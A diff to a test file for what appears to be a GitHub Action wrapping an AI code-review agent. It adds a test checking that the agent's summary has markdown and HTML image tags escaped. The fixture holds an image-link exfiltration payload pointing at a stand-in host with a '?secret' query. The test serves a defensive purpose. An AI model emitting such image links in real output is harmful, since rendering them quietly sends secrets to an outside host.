@@ -50,13 +50,15 @@ test('the action puts the answer into the summary and the outputs, and what was 
   expect(ended.stdout).toContain('::warning::Capstan was not allowed to use Bash.')
 })
 
-test('the action shows findings where they are, and fails on them when told to', async () => {
+test('the action shows findings where they are, no pictures that would be asked for, and fails when told to', async () => {
   const findings = [{ file: 'src/a,b.ts', line: 3, level: 'warning', message: 'Off by one:\n100%' }]
-  const reply = { tool: { name: 'StructuredOutput', input: { summary: 'One finding.', findings } } }
+  const summary = 'One ![finding](https://e.example/?secret) <IMG src="https://e.example/?secret">.'
+  const reply = { tool: { name: 'StructuredOutput', input: { summary, findings } } }
   const inputs = { PROMPT: 'review', ANNOTATIONS: 'true' }
   const told = await act({ replies: [reply, { text: 'done' }] }, inputs)
   expect(told.stdout).toContain('::warning file=src/a%2Cb.ts,line=3::Off by one:%0A100%25\n')
   expect(told.summary).toContain('| warning | src/a,b.ts:3 | Off by one: 100% |')
+  expect(told.summary).toContain('One !\\[finding](https://e.example/?secret) &lt;IMG src=')
   expect(told.code).toBe(0)
   expect((await act({ replies: [reply, { text: 'done' }] }, { ...inputs, FAIL_ON: 'warning' })).code).toBe(1)
 })
